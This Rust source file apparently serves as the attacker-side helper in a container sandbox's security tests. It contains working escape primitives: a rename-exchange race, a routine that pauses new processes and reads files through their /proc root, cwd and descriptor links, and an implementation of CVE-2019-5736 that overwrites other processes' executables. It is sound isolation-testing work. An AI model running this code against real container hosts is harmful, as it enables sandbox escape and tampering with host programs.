//! What an attacker runs, in a container (where this program is `/attack`) or beside one.

use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::process::{Command, ExitCode};
use std::thread::sleep;
use std::time::{Duration, Instant};

use nix::fcntl::{AT_FDCWD, RenameFlags, renameat2};
use nix::sys::resource::{UsageWho, getrusage};
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;

/// `inside VERB ARGS`.
pub fn run(args: &[String]) -> ExitCode {
    let words: Vec<&str> = args.iter().map(String::as_str).collect();
    match words[..] {
        ["swap", a, b] => swap(a, b),
        ["hold-programs"] => hold_programs(),
        ["peek", file] => peek(file, u64::MAX),
        ["peek", file, caps] => peek(file, u64::from_str_radix(caps, 16).unwrap()),
        ["socket", name] => socket(name),
        ["peak", file, ref command @ ..] => peak(file, command),
        // Entered as itself, by somebody's /proc/self/exe.
        _ => {
            sleep(Duration::from_millis(300));
            ExitCode::SUCCESS
        }
    }
}

/// Exchanges two names for as long as it lives.
fn swap(a: &str, b: &str) -> ExitCode {
    loop {
        let _ = renameat2(AT_FDCWD, a, AT_FDCWD, b, RenameFlags::RENAME_EXCHANGE);
    }
}

/// Stops each process that comes to this pid namespace as early as it can, and looks for a file by its
/// root, directory and descriptors until it is gone, and for capabilities beside `caps`; what it finds
/// goes to /seen.
fn peek(file: &str, caps: u64) -> ExitCode {
    let mut seen = File::create("/seen").unwrap();
    File::create("/looks").unwrap();
    let send = |pid, signal: Option<Signal>| kill(Pid::from_raw(pid), signal).is_ok();
    let mut look = |pid: i32| {
        let open = fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten();
        let open = open.map(|fd| format!("fd/{}", fd.file_name().to_string_lossy()));
        for at in ["root", "cwd"].map(str::to_owned).into_iter().chain(open) {
            for up in ["", "/../../../../../../.."] {
                if let Ok(text) = fs::read(format!("/proc/{pid}/{at}{up}{file}")) {
                    seen.write_all(&text).unwrap();
                }
            }
        }
        let more = held(pid) & !caps;
        if more != 0 {
            writeln!(seen, "capabilities {more:x}").unwrap();
        }
    };
    let mut pid = 2;
    loop {
        // Some may have passed by unseen, and threads have numbers, too.
        let next = (pid..pid + 64).find(|pid| send(*pid, Some(Signal::SIGSTOP)));
        let Some(next) = next else { continue };
        pid = next;
        look(pid);
        send(pid, Some(Signal::SIGCONT));
        while send(pid, None) {
            look(pid);
        }
        pid += 1;
    }
}

/// The capabilities that a process may take, where they are of use among these users.
fn held(pid: i32) -> u64 {
    let users = |who: &str| fs::read_link(format!("/proc/{who}/ns/user"));
    let ours = users("self").unwrap();
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let own = status.lines().find_map(|line| line.strip_prefix("CapPrm:"));
    let own = own.and_then(|hex| u64::from_str_radix(hex.trim(), 16).ok());
    // What can't be looked into gives nothing away.
    own.filter(|_| users(&pid.to_string()).is_ok_and(|theirs| theirs == ours)).unwrap_or(0)
}

/// CVE-2019-5736: takes hold of every program that another process executes, and writes to its file
/// as soon as nobody executes it any more.
fn hold_programs() -> ExitCode {
    let own = fs::read_link("/proc/self/exe").unwrap();
    let mut held: Vec<File> = Vec::new();
    let end = Instant::now() + Duration::from_mins(1);
    File::create("/ready").unwrap();
    while Instant::now() < end {
        for entry in fs::read_dir("/proc").unwrap().flatten() {
            let exe = entry.path().join("exe");
            let Ok(name) = fs::read_link(&exe) else { continue };
            // busybox and this program are the container's own.
            if name == own || name.ends_with("busybox") {
                continue;
            }
            held.extend(File::open(exe));
        }
        held.retain(|file| {
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            let Ok(mut file) = OpenOptions::new().append(true).open(path) else { return true };
            file.write_all(b"# owned").is_err()
        });
        held.truncate(200);
    }
    ExitCode::SUCCESS
}

/// Listens at an abstract name.
fn socket(name: &str) -> ExitCode {
    let address = SocketAddr::from_abstract_name(name).unwrap();
    let _listener = UnixListener::bind_addr(&address).unwrap();
    sleep(Duration::from_secs(2));
    ExitCode::SUCCESS
}

/// Runs a command, and writes the peak of its memory, and its children's, in KiB.
fn peak(file: &str, command: &[&str]) -> ExitCode {
    let status = Command::new(command[0]).args(&command[1..]).status().unwrap();
    let usage = getrusage(UsageWho::RUSAGE_CHILDREN).unwrap();
    fs::write(file, usage.max_rss().to_string()).unwrap();
    ExitCode::from(status.code().map_or(255, |code| code as u8))
}
